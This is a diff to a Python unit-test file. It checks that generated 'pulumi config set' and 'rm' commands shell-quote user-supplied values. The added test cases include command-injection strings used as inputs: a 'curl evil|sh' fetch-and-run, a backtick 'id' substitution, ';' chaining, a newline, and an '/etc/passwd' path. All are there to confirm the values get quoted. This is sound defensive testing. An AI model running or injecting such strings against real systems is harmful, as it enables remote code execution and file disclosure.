@@ -26,6 +26,7 @@ from settings.problems import Problem, render
 from settings.reader import remove_command, set_command
 from tests import bad_settings
 from tests.bad_settings import ROOT, Bad
+from user_errors import shell_word
 
 pytestmark = pytest.mark.unit
 
@@ -119,13 +120,21 @@ def test_a_command_quotes_what_the_shell_would_read() -> None:
     begin = f"pulumi config set {NAMESPACE}:railwayServiceName"
     for value, shown in {
         "backend": "backend", "my backend": "'my backend'", "$HOME": "'$HOME'", "it's": "'it'\"'\"'s'",
-        "<your own name>": "<your own name>", "": "",
+        "<your own name>": "<your own name>", "<https://a.example>": "<https://a.example>", "": "",
+        "<$(curl evil|sh)>": "'<$(curl evil|sh)>'", "<`id`>": "'<`id`>'", "<a>;<b>": "'<a>;<b>'",
+        "<a\nb>": "'<a\nb>'", "<it's>": "'<it'\"'\"'s>'", "</etc/passwd>": "'</etc/passwd>'",
     }.items():  # fmt: skip
         assert set_command("railwayServiceName", value) == f"{begin} {shown}".rstrip()
     assert set_command("region", "a", ".it's") == (
         f"pulumi config set --path --type string '{NAMESPACE}:region.it'\"'\"'s' a"
     )
     assert remove_command("my region") == f"pulumi config rm '{NAMESPACE}:my region'"
+
+
+def test_no_placeholder_of_a_key_is_quoted() -> None:
+    examples = [str(key.example) for key in KEYS.values() if str(key.example).startswith("<")]
+    assert len(examples) > 3
+    assert [shell_word(text) for text in examples] == examples
 
 
 def test_a_placeholder_says_what_is_expected(stack: Stack) -> None:
